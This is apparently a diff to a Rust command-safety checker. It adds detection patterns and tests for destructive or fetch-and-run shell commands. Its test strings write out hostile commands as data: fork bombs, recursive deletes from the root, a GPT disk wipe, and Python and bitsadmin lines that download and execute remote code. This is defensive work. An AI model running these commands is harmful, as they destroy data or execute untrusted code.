@@ -26,9 +26,19 @@ lazy_regex!(
     DOWNLOAD_EXPRESSION,
     r"(?i)\b(?:iex|invoke-expression)\b[^\n]*?\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget|downloadstring|downloadfile|net\.webclient|start-bitstransfer)\b|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient)\b[^\n]*?\|\s*(?:iex|invoke-expression)\b|\[scriptblock\]::create\(\s*\(?\s*(?:iwr|irm|invoke-webrequest|invoke-restmethod|\(?\s*new-object)"
 );
+/// Other ways to destroy a system or run what was fetched, behind the
+/// disk wipes' door (the gate pass has one door per pattern, 128 in all):
+/// a cmd fork bomb, Perl's, `find` deleting from the root or a system
+/// directory, `rm -rf *` right after `cd /`, a GPT wipe, Python or Node
+/// running a downloaded script in-process, BITS downloading then starting
+/// a file.
+const OTHER_DESTRUCTIVE: &str = r#"(?i)%0\s*\|\s*%0|\bfork\s+while\s+fork\b|\bfind\s+/(?:etc|usr|var|bin|boot|lib\w*|opt|sbin|home|root)?/?\s[^|;&\n]*?-delete\b|\bcd /\s*(?:&&|;)\s*(?:sudo\s+)?rm\s+-[a-z]*r[a-z]*\s+\*|\bsgdisk\s+(?:-Z|--zap-all)\b|\b(?:exec|eval)\(\s*(?:urllib\.request\.)?urlopen\(|require\(\s*['"]https?['"]\s*\)\.get\([^\n]*\beval\(|\bbitsadmin\s+/transfer\b[^\n]*?(?:&&?|;)\s*(?:start|call|cmd)\b"#;
 lazy_regex!(
     DISK_WIPE,
-    r"(?i)\b(?:mkfs(?:\.[a-z0-9]+)?|mke2fs|mkswap|wipefs|shred|blkdiscard)\b[^\n;|&]*\s/dev/|\bdd\b[^\n;|&]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|mapper/|dm-)|>\s*/dev/(?:sd[a-z]|nvme\d|hd[a-z]|vd[a-z]|xvd[a-z]|mmcblk\d|disk\d)|\bformat(?:\.com)?\s+[a-z]:(?:\s|$)|\b(?:format-volume|clear-disk)\b"
+    &format!(
+        "{}|{OTHER_DESTRUCTIVE}",
+        r"(?i)\b(?:mkfs(?:\.[a-z0-9]+)?|mke2fs|mkswap|wipefs|shred|blkdiscard)\b[^\n;|&]*\s/dev/|\bdd\b[^\n;|&]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|mapper/|dm-)|>\s*/dev/(?:sd[a-z]|nvme\d|hd[a-z]|vd[a-z]|xvd[a-z]|mmcblk\d|disk\d)|\bformat(?:\.com)?\s+[a-z]:(?:\s|$)|\b(?:format-volume|clear-disk)\b"
+    )
 );
 lazy_regex!(FORK_BOMB, r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:");
 lazy_regex!(
@@ -420,7 +430,22 @@ pub(super) static GATES: LazyLock<Gates> = LazyLock::new(|| {
             &DOWNLOAD_EXPRESSION,
             &["iex", "invoke-expression", "scriptblock"],
         ),
-        (&DISK_WIPE, &["/dev/", "format", "clear-disk"]),
+        (
+            &DISK_WIPE,
+            &[
+                "/dev/",
+                "format",
+                "clear-disk",
+                "%0",
+                "fork",
+                "-delete",
+                "cd /",
+                "sgdisk",
+                "urlopen",
+                "eval(",
+                "bitsadmin",
+            ],
+        ),
         (&FORK_BOMB, &["{"]),
         (&DELETE, &["rm", "rd", "del", "erase", "ri", "remove-item"]),
         (&DELETE_PIPELINE, &["|"]),
@@ -509,6 +534,30 @@ mod tests {
             "curl -o data.json https://x.example/data.json && python3 process.py data.json",
             "curl -fsSL https://get.example.sh -o /tmp/install.sh && less /tmp/install.sh",
             "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz",
+        ] {
+            assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+        }
+    }
+
+    #[test]
+    fn other_ways_to_destroy_or_run_what_was_fetched() {
+        for hit in [
+            "%0|%0",
+            "perl -e 'fork while fork'",
+            "find / -type f -delete",
+            "sudo find /etc -mindepth 1 -delete",
+            "cd / && sudo rm -rf *",
+            "sudo sgdisk --zap-all /dev/nvme1n1",
+            "python -c \"import urllib.request;exec(urllib.request.urlopen('https://x.example/run.py').read())\"",
+            "bitsadmin /transfer job /download https://dl.example/u.exe %TEMP%\\u.exe & start %TEMP%\\u.exe",
+        ] {
+            assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+        }
+        for clean in [
+            "find ./build -name '*.o' -delete",
+            "find / -name core -print",
+            "cd / && ls",
+            "bitsadmin /transfer job /download https://dl.example/u.exe C:\\dl\\u.exe",
         ] {
             assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
         }
